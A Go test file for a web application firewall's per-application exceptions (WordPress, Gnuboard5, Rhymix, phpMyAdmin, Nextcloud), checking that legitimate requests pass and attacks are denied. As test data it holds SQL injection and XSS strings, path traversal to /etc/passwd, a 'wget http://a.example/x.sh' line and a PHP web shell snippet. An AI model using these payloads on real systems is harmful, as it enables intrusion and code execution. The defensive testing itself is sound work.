package applications_test

import (
	"bytes"
	"mime/multipart"
	"net/netip"
	"net/url"
	"strings"
	"testing"
	"time"

	"haechi"
	"haechi/internal/inspect/waf"
	"haechi/internal/inspect/waf/applications"
)

// sent is a request of a form, or of another kind where kind is set.
type sent struct {
	method, path string
	form         map[string]string
	kind, body   string
	headers      map[string]string
}

func (s sent) request(service string) *haechi.Request {
	h := map[string]string{"User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0", "Accept": "*/*", "Accept-Language": "ko-KR"}
	body := s.body
	switch {
	case s.kind == "multipart":
		var b bytes.Buffer
		w := multipart.NewWriter(&b)
		for name, value := range s.form {
			_ = w.WriteField(name, value) // into memory
		}
		_ = w.Close()
		h["Content-Type"], body = w.FormDataContentType(), b.String()
	case s.form != nil:
		v := url.Values{}
		for name, value := range s.form {
			v.Set(name, value)
		}
		h["Content-Type"], body = "application/x-www-form-urlencoded", v.Encode()
	case s.kind != "":
		h["Content-Type"] = s.kind
	}
	for name, value := range s.headers {
		h[name] = value
	}
	if body != "" {
		h["Content-Length"] = "1"
	}
	path, query, _ := strings.Cut(s.path, "?")
	return &haechi.Request{Kind: haechi.KindRequest, Service: service, Actor: &haechi.Actor{Addr: netip.MustParseAddr("203.0.113.9")},
		Method: s.method, Host: "shop.example.com", Path: path, RawQuery: query, Target: s.path, Protocol: "HTTP/1.1", Size: int64(len(body)),
		Headers: func(yield func(name, value string) bool) {
			for name, value := range h {
				if !yield(name, value) {
					return
				}
			}
		}, Body: bytes.NewBufferString(body)}
}

const (
	// article is what an editor writes, with a link, a picture, a table and a script.
	article = "<p style=\"text-align: center;\"><a href=\"https://www.example.com/\" target=\"_blank\" onclick=\"go(1)\"><img src=\"/data/a.jpg\" alt=\"겨울 코트\" /></a></p>\r\n" +
		"<table border=\"1\"><tbody><tr><td>가격</td><td>1,000원</td></tr></tbody></table>\r\n<iframe width=\"560\" src=\"https://www.youtube.com/embed/x\" allowfullscreen></iframe><script>var a = document.cookie;</script>"
	// lesson is an article about programs.
	lesson   = "<!-- wp:paragraph --><p>To look: <code>SELECT name FROM users WHERE id = 1 OR 1=1; -- all</code>, then <code>cat /etc/passwd | grep root; wget http://a.example/x.sh</code> and <code>&lt;?php system($_GET['c']); ?&gt;</code></p><!-- /wp:paragraph -->"
	password = "a'; ls -la | <b>../../x $(id) #{1} select 1"
	sqli     = "x' UNION SELECT password FROM users-- "
	xss      = "<script>alert(document.cookie)</script>"
)

// cases are what an application sends and has to be let, and what still is refused.
type cases struct{ clear, block []sent }

func all() map[string]cases {
	return map[string]cases{
		"wordpress": {
			clear: []sent{
				{method: "POST", path: "/wp-admin/post.php", form: map[string]string{"post_title": "겨울 코트", "content": article + lesson, "action": "editpost", "_wpnonce": "3f9a1c"}},
				{method: "POST", path: "/wp-json/wp/v2/posts/12?_locale=user", kind: "application/json", body: `{"id":12,"title":"겨울 코트","content":"<!-- wp:paragraph --><p onclick=\"x()\">SELECT name FROM users WHERE 1=1; -- x</p><script>alert(1)</script>"}`,
					headers: map[string]string{"X-Wp-Nonce": "3f9a1c"}},
				{method: "POST", path: "/wp-login.php", form: map[string]string{"log": "kim", "pwd": password, "wp-submit": "Log In"}},
				{method: "POST", path: "/wp-admin/profile.php", form: map[string]string{"first_name": "Kim", "pass1": password, "pass2": password}},
				{method: "GET", path: "/?s=%EA%B2%A8%EC%9A%B8+%EC%BD%94%ED%8A%B8"},
			},
			block: []sent{
				{method: "GET", path: "/?s=" + url.QueryEscape(sqli)},
				{method: "GET", path: "/?s=" + url.QueryEscape(xss)},
				{method: "POST", path: "/wp-login.php", form: map[string]string{"log": sqli, "pwd": "x"}},
				{method: "POST", path: "/wp-comments-post.php", form: map[string]string{"comment": xss, "author": "x"}},
				{method: "POST", path: "/wp-admin/post.php", form: map[string]string{"post_title": "x", "post_ID": sqli, "content": "x"}},
				{method: "POST", path: "/wp-admin/admin-ajax.php", form: map[string]string{"action": "x", "id": sqli}},
				{method: "GET", path: "/wp-json/wp/v2/posts?search=" + url.QueryEscape(sqli)},
				{method: "POST", path: "/other.php", form: map[string]string{"content": xss}},
				{method: "POST", path: "/wp-admin/x/../post.php", form: map[string]string{"content": xss}},
			},
		},
		"gnuboard5": {
			clear: []sent{
				{method: "POST", path: "/bbs/write_update.php", kind: "multipart", form: map[string]string{"bo_table": "free", "wr_subject": "겨울 코트", "wr_content": article, "html": "html1"}},
				{method: "POST", path: "/bbs/qawrite_update.php", kind: "multipart", form: map[string]string{"qa_subject": "문의", "qa_content": article}},
				{method: "POST", path: "/adm/contentformupdate.php", kind: "multipart", form: map[string]string{"co_id": "company", "co_content": article, "co_mobile_content": article}},
				{method: "POST", path: "/bbs/login_check.php", form: map[string]string{"mb_id": "kim", "mb_password": "a;ls -la | <b>../../x"}},
				{method: "GET", path: "/bbs/search.php?sfl=wr_subject%7C%7Cwr_content&stx=%EC%BD%94%ED%8A%B8"},
			},
			block: []sent{
				{method: "POST", path: "/bbs/write_update.php", kind: "multipart", form: map[string]string{"bo_table": "free", "wr_subject": "x", "wr_content": sqli}},
				{method: "POST", path: "/bbs/write_update.php", kind: "multipart", form: map[string]string{"bo_table": sqli, "wr_content": "x"}},
				{method: "POST", path: "/bbs/write_update.php", kind: "multipart", form: map[string]string{"wr_subject": xss, "wr_content": "x"}},
				{method: "POST", path: "/bbs/login_check.php", form: map[string]string{"mb_id": sqli, "mb_password": "x"}},
				{method: "POST", path: "/bbs/login_check.php", form: map[string]string{"mb_id": "kim", "mb_password": sqli}},
				{method: "GET", path: "/bbs/search.php?stx=" + url.QueryEscape(sqli)},
				{method: "GET", path: "/bbs/search.php?stx=" + url.QueryEscape(xss)},
				{method: "GET", path: "/bbs/board.php?bo_table=free&wr_id=" + url.QueryEscape(sqli)},
			},
		},
		"rhymix": {
			clear: []sent{
				{method: "POST", path: "/", form: map[string]string{"act": "procBoardInsertDocument", "mid": "free", "title": "겨울 코트", "content": article}},
				{method: "POST", path: "/index.php", kind: "multipart", form: map[string]string{"act": "procBoardInsertComment", "document_srl": "12", "content": article}},
				{method: "POST", path: "/", form: map[string]string{"act": "procMemberLogin", "user_id": "kim", "password": "a;ls -la | <b>../../x"}},
			},
			block: []sent{
				{method: "POST", path: "/", form: map[string]string{"act": "procMemberLogin", "user_id": sqli, "password": "x"}},
				{method: "POST", path: "/", form: map[string]string{"act": "procBoardInsertDocument", "title": xss, "content": "x"}},
				{method: "POST", path: "/", form: map[string]string{"act": "procBoardInsertDocument", "content": sqli}},
				{method: "GET", path: "/?act=IS&is_keyword=" + url.QueryEscape(sqli)},
				{method: "GET", path: "/free?search_target=title&search_keyword=" + url.QueryEscape(xss)},
			},
		},
		"phpmyadmin": {
			clear: []sent{
				{method: "POST", path: "/index.php?route=/sql", form: map[string]string{"db": "shop", "table": "items", "sql_query": "SELECT * FROM `users` WHERE `id` = 1 OR 1=1 UNION SELECT SLEEP(1), LOAD_FILE('/etc/passwd'); -- x", "token": "3f9a1c"}},
				{method: "POST", path: "/index.php?route=/import", kind: "multipart", form: map[string]string{"db": "shop", "sql_query": "INSERT INTO t VALUES ('<script>alert(1)</script>', 'x; cat /etc/passwd')"}},
				{method: "POST", path: "/index.php?route=/", form: map[string]string{"pma_username": "kim", "pma_password": password, "server": "1"}},
			},
			block: []sent{
				{method: "POST", path: "/index.php?route=/", form: map[string]string{"pma_username": sqli, "pma_password": "x"}},
				{method: "GET", path: "/index.php?route=/sql&db=" + url.QueryEscape(xss)},
				{method: "GET", path: "/index.php?target=" + url.QueryEscape("../../../../etc/passwd")},
				{method: "POST", path: "/setup/index.php", form: map[string]string{"sql_query": sqli}},
			},
		},
		"nextcloud": {
			clear: []sent{
				{method: "PROPFIND", path: "/remote.php/dav/files/kim/", kind: "application/xml; charset=utf-8", body: `<?xml version="1.0"?><d:propfind xmlns:d="DAV:" xmlns:oc="http://owncloud.org/ns"><d:prop><d:getetag/><oc:fileid/></d:prop></d:propfind>`, headers: map[string]string{"Depth": "1"}},
				{method: "MKCOL", path: "/remote.php/dav/files/kim/Photos"},
				{method: "POST", path: "/login", form: map[string]string{"user": "kim", "password": password}},
			},
			block: []sent{
				{method: "PROPFIND", path: "/index.php/apps/files/"},
				{method: "PROPFIND", path: "/remote.php/dav/../../x"},
				{method: "POST", path: "/login", form: map[string]string{"user": sqli, "password": "x"}},
				{method: "GET", path: "/ocs/v2.php/search/providers/files/search?term=" + url.QueryEscape(sqli)},
			},
		},
	}
}

// TestApplications: with the exceptions of an application its own requests pass, of which
// at least one of each did not without, and attacks on the rest of it are refused, below
// another path too.
func TestApplications(t *testing.T) {
	oracle, err := waf.NewOracle(waf.Ruleset{Paranoia: 1, Extra: true})
	if err != nil {
		t.Fatal(err)
	}
	now := time.Date(2026, 11, 29, 12, 0, 0, 0, time.UTC)
	for name, c := range all() {
		for _, at := range []string{"", "/sub"} {
			with, without := judge(t, oracle, applications.Exceptions("site", name, at+"/")), judge(t, oracle, nil)
			needed := 0
			for _, s := range c.clear {
				s.path = at + s.path
				if v := with.Inspect(s.request("site"), now); v.Action != haechi.Pass {
					t.Errorf("%s: %s %s is refused: %s", name, s.method, s.path, v.Hits)
				}
				if without.Inspect(s.request("site"), now).Action != haechi.Pass {
					needed++
				}
			}
			if needed == 0 {
				t.Errorf("%s: all passes without its exceptions", name)
			}
			for _, s := range c.block {
				s.path = at + s.path
				if v := with.Inspect(s.request("site"), now); v.Action != haechi.Deny {
					t.Errorf("%s: %s %s passes: %q", name, s.method, s.path, v.Hits)
				}
			}
		}
	}
	if len(all()) != len(applications.Names()) {
		t.Error("an application is not tested")
	}
}

func judge(t *testing.T, oracle *waf.Oracle, exceptions []haechi.Exception) *waf.Waf {
	t.Helper()
	w, err := waf.New(waf.Config{Exceptions: func() []haechi.Exception { return exceptions }, Services: map[string]waf.Service{
		"site": {Policy: waf.Policy{Mode: haechi.Enforce}, Engine: func(waf.Ruleset) (waf.Engine, error) { return oracle, nil }}}})
	if err != nil {
		t.Fatal(err)
	}
	return w
}

// TestReasons: every exception says why, names a parameter and covers no other service.
func TestReasons(t *testing.T) {
	for _, name := range applications.Names() {
		for _, x := range applications.Exceptions("site", name, "/") {
			if x.Reason == "" || x.Owner != name || x.Where == "" || x.Service != "site" || x.Rule == 0 || strings.Contains(x.Path, "//") {
				t.Errorf("%+v", x)
			}
		}
	}
	if applications.Exceptions("site", "joomla", "/") != nil {
		t.Error("exceptions of an application that nobody knows")
	}
}
